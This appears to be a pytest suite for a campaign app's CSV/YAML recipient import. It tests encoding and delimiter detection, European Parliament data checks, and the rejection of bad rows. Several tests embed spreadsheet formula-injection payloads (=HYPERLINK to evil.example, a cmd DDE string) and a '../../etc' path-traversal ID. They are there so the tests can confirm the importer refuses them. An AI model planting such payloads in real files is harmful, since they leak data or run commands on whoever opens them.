"""``campaign-app recipients import`` on CSV files: the real EP list and files built here.

Each test runs the command as a user does (from ``tmp_path``, workspace ``ws``) and checks
what a user checks: the report's lines with their row numbers, the rows of the CSV file
written into ``ws/recipients/``, the exit status, and that ``check`` still passes.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from ep_data import EP_CSV, ep_distrusted, ep_line, ep_rows
from import_helpers import (
    assert_check_passes,
    by_id,
    one_error,
    result_line,
    rows_of,
    run_import,
    snapshot,
    write_source,
)

# ---- helpers -------------------------------------------------------------------------------


# ---- the European Parliament's open-data CSV, as published (an extract: tests/data) ---------


EP_FLAGGED = {  # family names the file lost letters of, by their EP id
    "103746": "Šime?ka",
    "197840": "Juknevi?ien?",
    "197771": "Bil?ík",
    "124766": "Auštrevi?ius",
}


@pytest.fixture
def ep_import(mini_ws, cli):
    before = snapshot(mini_ws.root)
    result = run_import(cli, EP_CSV)
    return before, result


def test_ep_file_is_read_as_windows_1252_and_said_so(ep_import):
    _before, result = ep_import
    assert result.code == 0, result.err
    first = result.out.splitlines()[0]
    assert "encoding Windows-1252 (not UTF-8)" in first
    assert "delimiter ',' (comma)" in first
    assert f"{len(ep_rows())} rows" in first
    assert "mep_email → email" in result.out and "mep_given_name → given_name" in result.out


def test_ep_rows_with_letters_lost_to_question_marks_are_flagged_with_their_row(ep_import, mini_ws):
    _before, result = ep_import
    shown = str(EP_CSV)
    for ep_id, family in EP_FLAGGED.items():
        expected = (
            f"{shown}:{ep_line(ep_id)}:4: letters replaced by '?' in the source: family_name '{family}'"
        )
        assert any(ln.strip().startswith(expected) for ln in result.out.splitlines()), expected
    written = by_id(mini_ws.root / "recipients" / "data-v1-meps-9-en.csv")
    for ep_id in EP_FLAGGED:
        assert f"mep-{ep_id}" not in written
    # Not one name with a '?' went in, from any row.
    assert not [r for r in written.values() if "?" in r["given_name"] + r["family_name"]]
    # The directory's own correct entries are named in the report and left alone.
    assert "the directory has this person as mep-1 in ws/recipients/people.csv" in result.out
    assert "Šimečka" in (mini_ws.root / "recipients" / "people.csv").read_text(encoding="utf-8")


def test_ep_counts_match_the_rows_an_independent_reading_distrusts(ep_import, mini_ws, cli):
    _before, result = ep_import
    rows = ep_rows()
    distrusted = ep_distrusted()
    # Spanish and Estonian members swapped in the source, caught by their homepage's domain.
    swapped = distrusted["swapped"]
    assert len(swapped) == 6
    skipped = distrusted["lost"] | distrusted["no_mail"] | swapped
    added = len(rows) - len(skipped)
    assert (
        result_line(result.out)
        == f"Result: {added} added, 0 updated, 0 unchanged, {len(skipped)} skipped (of {len(rows)} rows)."
    )
    written = rows_of(mini_ws.root / "recipients" / "data-v1-meps-9-en.csv")
    assert len(written) == added
    for line in swapped:
        assert re.search(
            rf":{line}:8: country (EE|ES) \((Estonia|Spain)\) contradicts the homepage", result.out
        )
    assert_check_passes(cli)


def test_ep_mailto_lists_keep_the_parliament_address(ep_import, mini_ws):
    _before, result = ep_import
    written = by_id(mini_ws.root / "recipients" / "data-v1-meps-9-en.csv")
    assert not [r for r in written.values() if "mailto" in r["email"] or ";" in r["email"]]
    # "mailto:andreas.schwab@europarl.europa.eu; mailto:post@andreas-schwab.de"
    assert written["mep-28223"]["email"] == "andreas.schwab@europarl.europa.eu"
    # "mailto:permanence@nadine-morano.com; mailto:nadine.morano@europarl.europa.eu": not the first
    morano = [r for r in written.values() if r["family_name"] == "Morano"]
    assert [r["email"] for r in morano] == ["nadine.morano@europarl.europa.eu"]
    goerens = written["mep-840"]
    assert (goerens["category"], goerens["honorific"], goerens["given_name"], goerens["family_name"]) == (
        "mep",
        "Mr",
        "Charles",
        "Goerens",
    )
    assert (goerens["gender"], goerens["country"], goerens["organisation"]) == (
        "m",
        "LU",
        "European Parliament",
    )
    assert goerens["source_url"] == "https://data.europarl.europa.eu/person/840"
    assert "row(s) had several e-mail addresses" in result.out


def test_ep_dry_run_reports_everything_and_writes_nothing(mini_ws, cli, tmp_path):
    before = snapshot(mini_ws.root)
    result = run_import(cli, EP_CSV, "--dry-run", "--rejects", str(tmp_path / "rejects.csv"))
    assert result.code == 0, result.err
    assert snapshot(mini_ws.root) == before
    assert not (tmp_path / "rejects.csv").exists()
    assert "letters replaced by '?' in the source: family_name 'Juknevi?ien?'" in result.out
    assert "Dry run: nothing was written" in result.out
    assert re.search(
        rf"Result: \d+ added, 0 updated, 0 unchanged, \d+ skipped \(of {len(ep_rows())} rows\)\.", result.out
    )


def test_ep_rejects_file_lists_the_rows_to_fix(mini_ws, cli, tmp_path):
    result = run_import(cli, EP_CSV, "--rejects", str(tmp_path / "rejects.csv"))
    assert result.code == 0, result.err
    rejects = rows_of(tmp_path / "rejects.csv")
    jukneviciene = [r for r in rejects if r["mep_identifier"] == "197840"]
    assert len(jukneviciene) == 1
    assert jukneviciene[0]["row"] == str(ep_line("197840"))
    assert "letters replaced by '?'" in jukneviciene[0]["problem"]


def test_reimporting_the_ep_file_changes_nothing(mini_ws, cli):
    assert run_import(cli, EP_CSV).code == 0
    before = snapshot(mini_ws.root)
    again = run_import(cli, EP_CSV)
    assert again.code == 0, again.err
    assert re.search(r"Result: 0 added, 0 updated, (\d+) unchanged", again.out)
    assert snapshot(mini_ws.root) == before


# ---- encodings -------------------------------------------------------------------------------

WESTERN = [("Michèle", "Rivasi", "fr"), ("Nacho", "Sánchez Amor", "es"), ("Jürgen", "Müller", "de")]
CENTRAL = [("Łukasz", "Wróbel", "pl"), ("Zofia", "Śliwińska", "pl"), ("Michal", "Šimečka", "sk")]


def people_csv(people, delimiter=",") -> str:
    lines = [delimiter.join(["First name", "Last name", "E-mail", "Organisation"])]
    for i, (given, family, _lang) in enumerate(people):
        lines.append(delimiter.join([given, family, f"person{i}@example.org", "Rights Group"]))
    return "\n".join(lines) + "\n"


@pytest.mark.parametrize(
    ("codec", "shown", "people"),
    [
        ("utf-8", "UTF-8", WESTERN + CENTRAL),
        ("utf-8-sig", "UTF-8 with BOM", WESTERN + CENTRAL),
        ("cp1252", "Windows-1252", WESTERN),
        ("iso-8859-2", "ISO-8859-2", CENTRAL),
        ("cp1250", "Windows-1250", CENTRAL),
    ],
)
def test_each_encoding_is_detected_reported_and_read_right(mini_ws, cli, tmp_path, codec, shown, people):
    source = write_source(tmp_path, "people.csv", people_csv(people), encoding=codec)
    result = run_import(cli, source, "--category", "ngo", "--into", "ngos.csv")
    assert result.code == 0, result.err
    assert f"encoding {shown}" in result.out.splitlines()[0]
    if codec not in ("utf-8", "utf-8-sig"):
        assert f"encoding {shown} (not UTF-8)" in result.out
    written = rows_of(mini_ws.root / "recipients" / "ngos.csv")
    assert [(r["given_name"], r["family_name"]) for r in written] == [(g, f) for g, f, _ in people]
    assert all(r["category"] == "ngo" and r["organisation"] == "Rights Group" for r in written)
    assert_check_passes(cli)


# ---- delimiters, line endings, header spellings -----------------------------------------------


@pytest.mark.parametrize(("delimiter", "name"), [(",", "comma"), (";", "semicolon"), ("\t", "tab")])
@pytest.mark.parametrize("newline", ["\n", "\r\n"], ids=["LF", "CRLF"])
def test_each_delimiter_and_line_ending(mini_ws, cli, tmp_path, delimiter, name, newline):
    other = ";" if delimiter == "," else ","
    text = (
        delimiter.join(["Surname", "Given name", "Email address", "Organization", "Notes"])
        + "\n"
        + delimiter.join(
            ["Nowak", "Anna", "anna@example.org", "Helsinki Group", f'"met in Kyiv{other} 2020"']
        )
        + "\n"
        + delimiter.join(["Kowalski", "Jan", "jan@example.org", "Helsinki Group", '"two\nlines"'])
        + "\n"
    )
    source = write_source(tmp_path, "list.csv", text, newline=newline)
    result = run_import(cli, source, "--category", "ngo")
    assert result.code == 0, result.err
    shown = "\\t" if delimiter == "\t" else delimiter
    assert f"delimiter '{shown}' ({name})" in result.out
    written = by_id(mini_ws.root / "recipients" / "list.csv")
    assert written["anna-nowak"]["notes"] == f"met in Kyiv{other} 2020"
    assert written["jan-kowalski"]["notes"].replace("\r\n", "\n") == "two\nlines"
    assert "Result: 2 added, 0 updated, 0 unchanged, 0 skipped (of 2 rows)." in result.out
    assert_check_passes(cli)


def test_header_spellings_are_mapped_and_the_rest_listed_as_not_imported(mini_ws, cli, tmp_path):
    text = (
        "Title,First Name,SURNAME,Sex,Job title,Organization,Country,E-Mail,Website,Twitter,Category\n"
        "Ms,Olena,Shevchenko,female,Director,Kharkiv Human Rights Group,Ukraine,olena@khpg.org.ua,https://khpg.org,@khpg,NGO\n"
    )
    source = write_source(tmp_path, "partners.csv", text)
    result = run_import(cli, source)
    assert result.code == 0, result.err
    assert "First Name → given_name" in result.out and "SURNAME → family_name" in result.out
    assert "Website (checked, not kept)" in result.out
    assert "Not imported (no directory field): Twitter" in result.out
    row = by_id(mini_ws.root / "recipients" / "partners.csv")["olena-shevchenko"]
    assert (row["honorific"], row["gender"], row["position"], row["country"], row["category"]) == (
        "Ms",
        "f",
        "Director",
        "UA",
        "ngo",
    )
    assert row["email"] == "olena@khpg.org.ua"


def test_full_name_column_is_split(mini_ws, cli, tmp_path):
    source = write_source(
        tmp_path,
        "names.csv",
        "Name,Email\nEsther de LANGE,esther@example.eu\nAnna Maria Nowak,anna@example.eu\n",
    )
    result = run_import(cli, source, "--category", "mep")
    assert result.code == 0, result.err
    rows = rows_of(mini_ws.root / "recipients" / "names.csv")
    assert [(r["given_name"], r["family_name"]) for r in rows] == [
        ("Esther", "de Lange"),
        ("Anna Maria", "Nowak"),
    ]


# ---- rows not trusted ------------------------------------------------------------------------


def test_untrusted_rows_are_listed_with_row_and_reason_and_not_imported(mini_ws, cli, tmp_path):
    text = (
        "given_name,family_name,email,country,homepage,organisation\n"  # line 1
        "Anna,Nowak,anna@example.org,PL,,Group A\n"  # 2: fine
        "Jan,Kowalski,jan at example.org,PL,,Group A\n"  # 3: no address
        "Eva,Nov?,eva@example.org,CZ,,Group A\n"  # 4: letter lost
        "Petr,Svoboda,,CZ,,Group A\n"  # 5: no channel
        "Iratxe,García,iratxe@example.org,Estonia,http://www.iratxegarcia.es/,Group A\n"  # 6: .es for Estonia
        "Lisa,Berg,lisa@riksdagen.se,AT,,Group A\n"  # 7: .se for Austria
        "Tom,Wood,tom@example.org,Atlantis,,Group A\n"  # 8: no such country
        "Ola,Lind,ola@example.org,SE,,Group A,extra\n"  # 9: one cell too many
    )
    source = write_source(tmp_path, "mixed.csv", text)
    result = run_import(cli, source, "--category", "ngo")
    assert result.code == 0, result.err
    out = result.out
    assert "in/mixed.csv:3:3: e-mail 'jan at example.org' is not an address" in out
    assert "in/mixed.csv:4:2: letters replaced by '?' in the source: family_name 'Nov?'" in out
    assert "in/mixed.csv:5: Petr Svoboda: no contact channel (no e-mail, postal address or web form)" in out
    assert (
        "in/mixed.csv:6:4: country EE (Estonia) contradicts the homepage http://www.iratxegarcia.es/ (.es: Spain)"
        in out
    )
    assert (
        "in/mixed.csv:7:4: country AT (Austria) contradicts the e-mail lisa@riksdagen.se (.se: Sweden)" in out
    )
    assert "in/mixed.csv:8:4: country 'Atlantis' is neither a country name nor an ISO 3166 code" in out
    assert "in/mixed.csv:9:7: row has 7 cells but the header has 6" in out
    assert result_line(out) == "Result: 1 added, 0 updated, 0 unchanged, 7 skipped (of 8 rows)."
    assert list(by_id(mini_ws.root / "recipients" / "mixed.csv")) == ["anna-nowak"]
    assert_check_passes(cli)


@pytest.mark.parametrize("tags", [False, True], ids=["by-columns", "row-by-row"])
def test_an_id_the_directory_cannot_hold_is_changed_and_said_at_its_row_and_column(
    mini_ws, cli, tmp_path, tags
):
    """``../../etc`` is not kept as it is, and the user is told what the entry's id became
    (a file with a tags column is converted row by row: the same note)."""
    lines = [
        "ID,First name,Last name,E-mail",
        "../../etc,Anna,Nowak,anna@example.org",  # row 2
        "ok-1,Jan,Kowalski,jan@example.org",  # 3: an id: kept, nothing said
        "***,Eva,Novak,eva@example.org",  # 4: nothing of it makes an id
    ]
    extra = ["Tags", "droi", "", ""] if tags else [""] * 4
    text = "".join(
        f"{line},{cell}\n" if tags else f"{line}\n" for line, cell in zip(lines, extra, strict=True)
    )
    source = write_source(tmp_path, "ids.csv", text)
    result = run_import(cli, source, "--category", "ngo")
    assert result.code == 0, result.err
    out = result.out
    assert "in/ids.csv:2:1: ID '../../etc' is not an id the directory can hold: imported as 'etc'" in out
    assert (
        "in/ids.csv:4:1: ID '***' is not an id the directory can hold: the entry gets an id made from its name"
        in out
    )
    assert "ids.csv:3" not in out
    assert result_line(out) == "Result: 3 added, 0 updated, 0 unchanged, 0 skipped (of 3 rows)."
    assert set(by_id(mini_ws.root / "recipients" / "ids.csv")) == {"etc", "ok-1", "eva-novak"}
    assert_check_passes(cli)


def test_keep_no_contact_adds_entries_without_a_channel(mini_ws, cli, tmp_path):
    source = write_source(
        tmp_path, "office.csv", "position,organisation\nHead of Office,Ministry of Justice\n"
    )
    result = run_import(cli, source, "--category", "national_official", "--keep-no-contact")
    assert result.code == 0, result.err
    assert list(by_id(mini_ws.root / "recipients" / "office.csv")) == ["head-of-office"]
    assert_check_passes(cli)


def test_term_end_marks_the_entry_former_member_and_check_warns(mini_ws, cli, tmp_path):
    text = "mep_identifier,mep_given_name,mep_family_name,mep_email,mep_death_date\n9001,David,SASSOLI,d@europarl.europa.eu,11/01/2022 01:00\n"
    source = write_source(tmp_path, "ended.csv", text)
    result = run_import(cli, source)
    assert result.code == 0, result.err
    assert "in/ended.csv:2: mep_death_date is 11/01/2022 01:00: tagged former-member" in result.out
    row = by_id(mini_ws.root / "recipients" / "ended.csv")["mep-9001"]
    assert (row["family_name"], row["tags"], row["category"]) == ("Sassoli", "former-member", "mep")
    assert row["in_office_until"] == "2022-01-11"  # the day the term ended: check warns about letters
    assert "tagged former-member, in office until 2022-01-11" in result.out
    check = cli("check", "-w", "ws")
    assert check.code == 0, check.err
    assert (
        "warning: 1 MEP(s) are no longer members of the European Parliament (tagged former-member): mep-9001"
        in check.out
    )


# ---- files that cannot be imported: one line, exit 1 -----------------------------------------


def test_missing_category_is_one_clear_error(mini_ws, cli, tmp_path):
    source = write_source(tmp_path, "x.csv", "given_name,family_name,email\nA,B,a@b.org\n")
    line = one_error(run_import(cli, source))
    assert line.startswith("error: in/x.csv:1: the file has no category column — ") and "--category" in line


def test_no_name_column_is_one_clear_error(mini_ws, cli, tmp_path):
    source = write_source(tmp_path, "x.csv", "phone;email\n1;a@b.org\n")
    line = one_error(run_import(cli, source, "--category", "ngo"))
    assert line.startswith("error: in/x.csv:1: no column holds a name (columns: phone, email)")


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("gone.csv", None, "error: in/gone.csv: file not found — "),
        ("binary.csv", b"\x00\x01\x02PK\x00\x00", "error: in/binary.csv: this is not a text file"),
        ("old.xls", b"\xd0\xcf\x11\xe0", "error: in/old.xls: cannot read .xls files — "),
        ("empty.csv", b"", "error: in/empty.csv:1: file is empty — "),
        ("notes.docx", b"PK", "error: in/notes.docx: cannot import notes.docx: unknown kind of file — "),
    ],
)
def test_unreadable_files_are_one_error_line(mini_ws, cli, tmp_path, name, data, message):
    path = tmp_path / "in" / name
    path.parent.mkdir(exist_ok=True)
    if data is not None:
        path.write_bytes(data)
    before = snapshot(mini_ws.root)
    assert one_error(run_import(cli, path)).startswith(message)
    assert snapshot(mini_ws.root) == before


def test_into_must_be_a_file_name(mini_ws, cli, tmp_path):
    source = write_source(tmp_path, "x.csv", "given_name,family_name,email\nA,B,a@b.org\n")
    assert one_error(run_import(cli, source, "--category", "ngo", "--into", "../x.csv")).startswith(
        "error: --into takes a file name, not '../x.csv'"
    )


def test_a_file_inside_recipients_is_refused(mini_ws, cli):
    line = one_error(run_import(cli, mini_ws.root / "recipients" / "people.csv"))
    assert "people.csv is inside the recipients folder" in line


def test_wrong_category_is_a_usage_error(mini_ws, cli, tmp_path):
    source = write_source(tmp_path, "x.csv", "given_name,family_name\nA,B\n")
    result = run_import(cli, source, "--category", "martians")
    assert result.code == 2


def test_the_app_can_preview_edit_the_mapping_and_see_the_report_before_writing(mini_ws, tmp_path):
    """What the desktop app's Import dialog uses: a preview, the detected encoding and
    delimiter, a mapping it may change, and the report, before anything is written."""
    from campaign_app.core.directory.importing import ImportOptions, guess_mapping, plan_import, read_source

    text = "Nom;Prénom;Col7;Remarque\nDupont;Léa;lea@example.org;vue à Kyiv\nMartin;Paul;paul@example.org;\n"
    source = read_source(write_source(tmp_path, "fr.csv", text, encoding="cp1252"))
    assert (source.encoding, source.delimiter) == ("Windows-1252", ";")
    assert source.preview(1) == [(2, ["Dupont", "Léa", "lea@example.org", "vue à Kyiv"])]
    mapping = guess_mapping(source.columns)
    assert mapping == ["family_name", "given_name", None, None]
    mapping[2] = "email"  # the user maps the column the guess could not name
    before = snapshot(mini_ws.root)
    plan = plan_import(mini_ws.root, source, ImportOptions(category="ngo", mapping=mapping))
    assert plan.report.counts["added"] == 2 and plan.report.problems == []
    assert ("Col7", "email") in plan.report.mapping and ("Remarque", None) in plan.report.mapping
    assert snapshot(mini_ws.root) == before
    plan.apply()
    assert [(r["given_name"], r["email"]) for r in rows_of(mini_ws.root / "recipients" / "fr.csv")] == [
        ("Léa", "lea@example.org"),
        ("Paul", "paul@example.org"),
    ]


def test_an_address_with_a_space_in_it_is_refused_as_the_cell_holds_it(mini_ws, cli, tmp_path):
    """ "dan @example.org" was read as two addresses and refused as '@example.org': the
    campaigner looked for that text in the sheet and did not find it."""
    source = write_source(
        tmp_path,
        "spaces.csv",
        "id;category;given_name;family_name;email\n"
        "n-4;ngo;Dan;Young;dan @example.org\n"
        "n-5;ngo;Eve;Zorn;eve@ example.org\n"
        "n-6;ngo;Fay;Wood;fay@example.org, fay.wood@example.org\n",
    )
    result = run_import(cli, source)
    assert result.code == 0, result.err
    assert "spaces.csv:2:5: e-mail 'dan @example.org' is not an address" in result.out
    assert "spaces.csv:3:5: e-mail 'eve@ example.org' is not an address" in result.out
    assert result_line(result.out) == "Result: 1 added, 0 updated, 0 unchanged, 2 skipped (of 3 rows)."


def test_a_name_column_beside_a_surname_column_is_the_given_name(mini_ws, cli, tmp_path):
    """ "Name" and "Surname": "Name" was read as the whole name, split, and its family part
    replaced by the Surname column: every given name was lost, and two people of one
    family name were taken for one."""
    source = write_source(
        tmp_path,
        "people.csv",
        "ID;Name;Surname;Category;E-mail\n"
        "kovalenko;Olena;Kovalenko;ngo;olena@example.org\n"
        "x1;Petro;Kovalenko;ngo;petro@example.org\n",
    )
    result = run_import(cli, source)
    assert result.code == 0, result.err
    assert "Name → given_name, Surname → family_name" in result.out
    assert result_line(result.out) == "Result: 2 added, 0 updated, 0 unchanged, 0 skipped (of 2 rows)."
    target = next(p for p in (mini_ws.root / "recipients").glob("*.csv") if "olena@" in p.read_text())
    written = {r["email"]: (r["given_name"], r["family_name"]) for r in rows_of(target)}
    assert written["olena@example.org"] == ("Olena", "Kovalenko")
    assert written["petro@example.org"] == ("Petro", "Kovalenko")


def test_a_polish_sheet_is_read_by_its_own_column_names_and_gender_letters(mini_ws, cli, tmp_path):
    """Imię, Nazwisko, Stanowisko, Płeć (K, M): "no column holds a name", and once mapped by
    hand, every woman's row refused ("gender 'K' is not f, m or empty")."""
    source = tmp_path / "adresaci.csv"
    source.write_bytes(
        "Lp.;Imię;Nazwisko;Stanowisko;Płeć;E-mail\n"
        "1;Anna;Nowak;Minister Sprawiedliwości;K;anna.nowak@example.pl\n"
        "2;Jan;Kowalski;Poseł na Sejm;M;jan.kowalski@example.pl\n".encode("cp1250")
    )
    result = cli("recipients", "import", source, "-w", mini_ws.root, "--category", "national_official")
    assert result.code == 0, result.err
    assert "Imię → given_name, Nazwisko → family_name, Stanowisko → position, Płeć → gender" in result.out
    assert "Result: 2 added" in result.out
    listed = cli("recipients", "list", "-w", mini_ws.root, "--query", "gender:f nowak")
    assert "Anna Nowak" in listed.out


def test_the_rejects_file_runs_nothing_in_a_spreadsheet_and_imports_as_it_was(mini_ws, cli, tmp_path):
    """A stranger's file may name a column =HYPERLINK(…), and put a formula in a name: the
    rejects file wrote both as they were; and the apostrophes of its cells came back with
    the next import."""
    source = write_source(
        tmp_path,
        "s.csv",
        'id,category,family_name,notes,"=HYPERLINK(""http://evil.example"",""x"")"\n'
        "r1,ngo,Smith,+380 44 123 4567,x\n"
        "r2,ngo,=1+1,,y\n",
    )
    result = run_import(cli, source, "--rejects", str(tmp_path / "rejects.csv"))
    assert result.code == 0, result.err
    text = (tmp_path / "rejects.csv").read_text(encoding="utf-8-sig")
    header, first, second = csv.reader(io.StringIO(text, newline=""))
    assert header == [
        "row",
        "problem",
        "id",
        "category",
        "family_name",
        "notes",
        '\'=HYPERLINK("http://evil.example","x")',
    ]
    assert first == [
        "2",
        "Smith: no contact channel (no e-mail, postal address or web form)",
        "r1",
        "ngo",
        "Smith",
        "'+380 44 123 4567",
        "x",
    ]
    assert second[:2] == [
        "3",
        "family_name '=1+1' is a formula a spreadsheet would run, not a name or an office",
    ]
    assert second[2:5] == ["r2", "ngo", "'=1+1"]
    result = run_import(
        cli, tmp_path / "rejects.csv", "--keep-no-contact", "--map", "row=ignore", "--map", "problem=ignore"
    )
    assert result.code == 0, result.err
    (r1,) = rows_of(mini_ws.root / "recipients" / "rejects.csv")  # the formula is refused again
    assert (r1["family_name"], r1["notes"]) == ("Smith", "+380 44 123 4567")


def test_a_name_or_an_office_that_is_a_formula_is_not_imported(mini_ws, cli, tmp_path):
    """A list made to attack whoever opens the directory's CSV in a spreadsheet: its formula
    would sit in recipients/*.csv as it was, and run there. A dash standing for "none" and
    a negative number are no formulas."""
    source = write_source(
        tmp_path,
        "s.csv",
        "id,category,given_name,family_name,position,organisation,email\n"
        'a1,ngo,Eve,"=HYPERLINK(""http://evil.example/?""&A1,""click"")",,Group,eve@example.org\n'
        "a2,ngo,Ann,Lee,@SUM(1+1)*cmd|' /C calc'!A0,Group,ann@example.org\n"
        "a3,ngo,Bo,Ek,-,Group,bo@example.org\n"
        "a4,ngo,+Cy,Ode,,Group,cy@example.org\n",
    )
    result = run_import(cli, source, "--into", "new.csv")
    assert result.code == 0, result.err
    assert (
        'in/s.csv:2:4: family_name \'=HYPERLINK("http://evil.example/?"&A1,"click")\' is a formula a '
        "spreadsheet would run, not a name or an office"
    ) in result.out
    assert "in/s.csv:3:5: position '@SUM(1+1)*cmd|' /C calc'!A0' is a formula" in result.out
    assert "in/s.csv:5:3: given_name '+Cy' is a formula" in result.out
    assert result_line(result.out) == "Result: 1 added, 0 updated, 0 unchanged, 3 skipped (of 4 rows)."
    assert sorted(by_id(mini_ws.root / "recipients" / "new.csv")) == ["a3"]


def test_a_name_that_is_a_formula_in_one_of_its_languages_is_not_imported(mini_ws, cli, tmp_path):
    """A YAML list writes names per language: a formula in the English one alone would sit in
    recipients/ as it was, and open every English letter 'Dear =HYPERLINK(…)'."""
    source = write_source(
        tmp_path,
        "people.yaml",
        "- id: y1\n  category: ngo\n  given_name: {uk: Олена, en: Olena}\n"
        '  family_name: {uk: Петренко, en: \'=HYPERLINK("http://evil.example","Petrenko")\'}\n'
        "  email: o@example.org\n"
        "- id: y2\n  category: ngo\n  family_name: {uk: Берг, en: Berg}\n  email: b@example.org\n",
    )
    result = run_import(cli, source, "--into", "new.yaml")
    assert result.code == 0, result.err
    assert 'family_name \'=HYPERLINK("http://evil.example","Petrenko")\' is a formula' in result.out
    assert result_line(result.out) == "Result: 1 added, 0 updated, 0 unchanged, 1 skipped (of 2 rows)."
    assert "HYPERLINK" not in (mini_ws.root / "recipients" / "new.yaml").read_text(encoding="utf-8")


def test_check_names_an_entry_whose_name_is_a_formula_in_a_file_not_imported(mini_ws, cli):
    """recipients/*.csv copied in by hand is read as it is: the import's refusal never saw
    it, and its letters would name the recipient '=HYPERLINK(…)'."""
    result = cli("check", "-w", "ws")
    assert result.code == 0 and "a spreadsheet would run" not in result.out + result.err
    people = mini_ws.root / "recipients" / "people.csv"
    text = people.read_text(encoding="utf-8").replace(
        "mep-2,mep,Ms,Rasa,", 'mep-2,mep,Ms,"=HYPERLINK(""http://evil.example/?""&A1,""Rasa"")",', 1
    )
    people.write_text(text, encoding="utf-8")

    result = cli("check", "-w", "ws")

    assert result.code == 0, result.err
    (said,) = [ln for ln in (result.out + result.err).splitlines() if "a spreadsheet would run" in ln]
    assert "recipients/people.csv:3: mep-2: given_name '=HYPERLINK(" in said
    assert "letters would name the recipient so" in said and "mep-1" not in said
    # and before letters are written to them (as for someone who left office)
    result = cli("generate", "-w", "ws", "--template", "appeal-en", "--out", "out")
    assert result.code == 0, result.err
    assert [ln for ln in (result.out + result.err).splitlines() if "a spreadsheet would run" in ln] == [
        "warning: " + said.split("warning: ", 1)[-1]
    ]
